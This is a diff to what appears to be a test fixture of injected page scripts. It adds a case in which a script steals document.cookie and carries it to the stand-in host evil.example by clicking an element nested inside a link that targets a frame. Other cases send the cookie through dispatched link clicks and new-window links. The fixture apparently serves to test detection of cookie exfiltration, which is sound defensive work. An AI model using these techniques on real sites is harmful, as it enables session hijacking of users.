@@ -445,7 +445,8 @@ export const MAIN_WORLD_SCRIPTS = {
 
   /**
    * Carries the cookie off in navigations a script starts without `location`: links it follows — a click event
-   * dispatched on a link into a frame (a shop document of its own), click() on a link that opens a new window
+   * dispatched on a link into a frame (a shop document of its own), click() on an element inside a link into
+   * another, click() on a link that opens a new window
    * (the helper cancels that one itself, so the test keeps one tab; the attempt is what counts) — and
    * `<meta http-equiv=refresh>` put into frames' documents by property, by setAttribute (quoted URL, any case)
    * and by markup.
@@ -453,13 +454,19 @@ export const MAIN_WORLD_SCRIPTS = {
   'link-follows': `(() => {
   const c = encodeURIComponent(document.cookie);
   ${SHOP_FRAME}
-  Promise.all([frame('saq-link-a'), frame('saq-meta-a'), frame('saq-meta-b'), frame('saq-meta-c')]).then(([link, a, b, m]) => {
-    link.onload = a.onload = b.onload = m.onload = null;
+  Promise.all([frame('saq-link-a'), frame('saq-link-b'), frame('saq-meta-a'), frame('saq-meta-b'), frame('saq-meta-c')]).then(([link, inner, a, b, m]) => {
+    link.onload = inner.onload = a.onload = b.onload = m.onload = null;
     const into = document.createElement('a');
     into.href = 'https://evil.example/link-dispatched?c=' + c;
     into.target = 'saq-link-a';
     document.body.appendChild(into);
     into.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
+    const around = document.createElement('a');
+    around.href = 'https://evil.example/link-inner?c=' + c;
+    around.target = 'saq-link-b';
+    around.innerHTML = '<span><b>Акция</b></span>';
+    document.body.appendChild(around);
+    around.querySelector('b').click();
     const blank = document.createElement('a');
     blank.href = 'https://evil.example/link-blank?c=' + c;
     blank.target = '_blank';
